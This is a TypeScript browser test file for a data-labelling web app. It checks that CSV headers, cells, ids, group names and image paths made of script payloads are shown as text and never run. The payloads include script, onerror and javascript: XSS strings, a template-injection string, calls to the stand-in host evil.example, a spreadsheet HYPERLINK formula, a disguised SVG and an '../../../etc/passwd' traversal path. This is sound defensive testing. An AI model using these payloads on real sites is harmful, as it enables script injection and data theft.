import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { csv } from "../fixtures/data.ts";
import { openTab, shot, type Tab } from "../fixtures/look.ts";
import { answer, asked } from "../fixtures/person.ts";
import { expect, test } from "../fixtures/test.ts";

// Each would set a flag, open a dialog, or ask another server, were it ever run.
const attacks = [
  "<script>window.__ran=1;alert(1)</script>",
  '<img src=x onerror="window.__ran=1;alert(2)">',
  '"><svg onload=window.__ran=1>',
  "</script><script src=//evil.example/x.js></script>",
  "javascript:window.__ran=1",
  "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
  "{{constructor.constructor('window.__ran=1')()}}",
  "<style>body{background:url(//evil.example/y)}</style>",
  "\u202e<b>backwards</b>\u0007",
  '=HYPERLINK("http://evil.example","click")',
  "<a href=javascript:window.__ran=1>x</a>",
  "' onmouseover='window.__ran=1",
];

function hostile(): string {
  const header = [attacks[0]!, attacks[1]!, attacks[3]!, attacks[7]!, "length", "width"];
  const rows = Array.from({ length: 48 }, (_, i) => {
    const attack = (k: number) => attacks[(i + k) % attacks.length]!;
    return [
      `${attacks[i % attacks.length]} ${i}`,
      attack(1),
      attack(2),
      attack(3),
      10 * (i % 3) + (i % 7) / 7,
      (i % 5) / 5,
    ];
  });
  return csv(header, rows);
}

test("a table whose every header, cell and id is a script is shown as text, and nothing of it runs", async ({
  serve,
  visit,
}) => {
  const name = "<img src=x onerror=window.__ran=1>.csv";
  const studio = await serve({ [name]: hostile() });
  const project = await studio.begin(name, { id: attacks[0]!, "super-instances": "16" });
  const page = await visit(studio, { project });
  await page.evaluate(() => {
    window.addEventListener("securitypolicyviolation", (e) =>
      console.error(`content security policy: ${e.violatedDirective} ${e.blockedURI}`),
    );
  });

  const seen: string[] = [];
  for (let i = 0; i < 4; i++) {
    const q = (await asked(page))!;
    seen.push(q.a, q.b);
    await expect(page.getByRole("figure", { name: q.a })).toBeVisible();
    await answer(page, i % 2 === 0 ? "same" : "different");
  }
  // Ids stand there as they were written, or with what cannot be printed left out.
  expect(seen.filter((id) => id.includes("<")).length).toBeGreaterThan(0);
  await expect(page.getByRole("button", { name: /all projects/ })).toContainText(
    "<img src=x onerror=window.__ran=1>",
  );

  const groups = await openTab(page, "Groups");
  await groups
    .getByRole("button", { name: /^name it/ })
    .first()
    .click();
  await groups.getByRole("textbox", { name: /name of group/ }).fill(attacks[1]!);
  await page.keyboard.press("Enter");
  await expect(groups.getByRole("heading", { name: attacks[1]! })).toBeVisible();
  await shot(page, "hostile");

  for (const tab of [
    "Map",
    "Search",
    "Doubts",
    "History",
    "Contradictions",
    "Export",
    "Settings",
  ] as Tab[]) {
    const panel = await openTab(page, tab);
    await expect(panel).not.toHaveText("…");
  }
  const history = await openTab(page, "History");
  await history.getByRole("button", { name: seen[0]! }).first().click();
  const object = page.getByRole("tabpanel", { name: "Object" });
  await expect(object.getByRole("heading", { name: seen[0]! })).toBeVisible();
  await page.getByRole("button", { name: /all projects/ }).click();
  await expect(page.getByRole("heading", { name: "Which data?" })).toBeVisible();
  await expect(page.getByText(name).first()).toBeVisible();

  const state = await page.evaluate(() => ({
    ran: (window as unknown as { __ran?: number }).__ran,
    made: document.querySelectorAll(
      "body script, iframe, img[src='x'], [onload], [onerror], [onmouseover], #app style, a[href^='javascript']",
    ).length,
  }));
  expect(state).toEqual({ ran: undefined, made: 0 });
});

test("names of people and of pictures that are scripts are names, and a picture that is none is not run", async ({
  serve,
  visit,
  guard,
}) => {
  guard.allow(/status of (404|409|415|422|400)/);
  const who = "<svg onload=alert(1)>";
  const studio = await serve({}, [who]);
  await mkdir(join(studio.folder, "pictures"));
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`;
  await writeFile(join(studio.folder, "pictures", "evil.png"), svg);
  const rows = Array.from({ length: 12 }, (_, i) => [
    `object ${i}`,
    i === 0 ? "pictures/evil.png" : i === 1 ? "../../../etc/passwd" : "http://evil.example/a.png",
    i % 4,
    (i * 7) % 5,
  ]);
  await writeFile(join(studio.folder, "list.csv"), csv(["id", "picture", "x", "y"], rows));
  const response = await studio.fetch("POST", "/projects", {
    data: "list.csv",
    settings: { id: "id", images: "picture" },
  });
  const { id } = (await response.json()) as { id: string };
  await expect
    .poll(
      async () =>
        (
          await studio.call<{ projects: { id: string; state: string }[] }>("GET", "/projects")
        ).projects.find((p) => p.id === id)?.state,
    )
    .toMatch(/^(open|failed)$/);
  const page = await visit(studio);
  await expect(page.getByText(who).first()).toBeVisible();
  await expect(page.getByRole("heading", { name: "This project cannot be shown" })).toBeVisible();
  await expect(
    page.getByRole("alert").filter({ hasText: "leads out of the folder" }),
  ).toBeVisible();
  await page.getByRole("button", { name: "All projects", exact: true }).click();
  await expect(page.getByRole("heading", { name: "Which data?" })).toBeVisible();
});
